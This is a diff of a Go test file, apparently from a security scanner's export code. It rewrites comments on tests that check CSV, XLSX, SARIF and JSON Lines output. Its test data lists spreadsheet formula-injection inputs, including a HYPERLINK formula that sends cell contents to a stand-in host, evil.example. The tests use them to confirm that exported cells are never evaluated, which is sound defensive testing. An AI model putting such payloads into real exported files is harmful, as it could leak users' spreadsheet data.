@@ -24,11 +24,11 @@ import (
 	"github.com/redoubt/redoubt/internal/report"
 )
 
-// listed is a selection of findings that are there.
+// listed is a selection of given findings.
 type listed struct {
 	issueType model.IssueType
 	findings  []api.Finding
-	more      int // how many more it announces than it has
+	more      int // additional findings in Total that do not exist
 	err       error
 }
 
@@ -124,15 +124,15 @@ func TestCSV(t *testing.T) {
 	}
 }
 
-// hostile are texts that a spreadsheet computes or breaks on, and plain ones.
+// hostile contains texts, and whether spreadsheets could evaluate them.
 var hostile = map[string]bool{
 	"=1+1": true, "+1": true, "-2+3": true, "@SUM(A1)": true, "\t=1": true, "\r=1": true, "\n=1": true, " =1": true, "＝1": true, "＠x": true, "\ufeff=1": true,
 	`=HYPERLINK("http://evil.example?"&A1)`: true, "a=b": false, "\"quoted\", with; all": false, "two\nlines": false, "a\x00b": false,
 	"": false, "_x000D_": false, "1-2": false, "é=": false, strings.Repeat("x", 40_000): false,
 }
 
-// TestNoCellIsComputed: nothing that scanners wrote is a formula, in any column,
-// and nothing of it is lost on the way.
+// TestNoCellIsComputed checks that scanner texts are never formulas in any column, and that they
+// are complete.
 func TestNoCellIsComputed(t *testing.T) {
 	for text, bad := range hostile {
 		f := aFinding(1)
@@ -169,7 +169,7 @@ func TestJSONLines(t *testing.T) {
 	}
 }
 
-// TestXLSX: another program reads what was written, as what it was.
+// TestXLSX checks that another library reads the written values with their types.
 func TestXLSX(t *testing.T) {
 	for text, bad := range hostile {
 		f := dependencyFinding(7)
@@ -206,8 +206,8 @@ func TestXLSX(t *testing.T) {
 	}
 }
 
-// TestSheets: a sheet that is full is followed by the next one, and one that was
-// announced and is not needed is empty.
+// TestSheets checks that a full sheet is followed by another one, and that an announced sheet
+// without findings is empty.
 func TestSheets(t *testing.T) {
 	var buf bytes.Buffer
 	x, err := newXLSX(&buf, sheetRows)
@@ -218,7 +218,7 @@ func TestSheets(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	x.row = sheetRows - 1 // as if it were nearly full
+	x.row = sheetRows - 1 // nearly full
 	for range 3 {
 		if err := x.raw(model.SAST, raw); err != nil {
 			t.Fatal(err)
@@ -250,7 +250,7 @@ func TestSheets(t *testing.T) {
 	}
 }
 
-// TestSARIFFollowsItsSchema: with everything that a finding may have, and with none.
+// TestSARIFFollowsItsSchema checks findings with all fields and with none.
 func TestSARIFFollowsItsSchema(t *testing.T) {
 	compiler := jsonschema.NewCompiler()
 	text, err := os.ReadFile("testdata/sarif-schema-2.1.0.json")
@@ -296,7 +296,7 @@ func TestSARIFFollowsItsSchema(t *testing.T) {
 	}
 }
 
-// TestBrokenExports: what fails is told, and no end is written behind it.
+// TestBrokenExports checks that errors are returned and that the file is not completed after one.
 func TestBrokenExports(t *testing.T) {
 	gone := errors.New("gone")
 	for _, f := range Formats() {
@@ -319,7 +319,7 @@ func TestBrokenExports(t *testing.T) {
 	}
 }
 
-// TestColumnsAreDocumented: the page names the columns in their order.
+// TestColumnsAreDocumented checks that the documentation lists the columns in order.
 func TestColumnsAreDocumented(t *testing.T) {
 	var names []string
 	for _, c := range columns {
@@ -335,7 +335,8 @@ func TestColumnsAreDocumented(t *testing.T) {
 	}
 }
 
-// What nobody rates is not called medium in a table, and a log says so beside the severity that it counts as.
+// TestUnratedIsNotCalledMedium checks that tables do not show unrated vulnerabilities as medium,
+// and that SARIF contains a property in addition to the severity.
 func TestUnratedIsNotCalledMedium(t *testing.T) {
 	f := dependencyFinding(7)
 	for _, unrated := range []bool{false, true} {
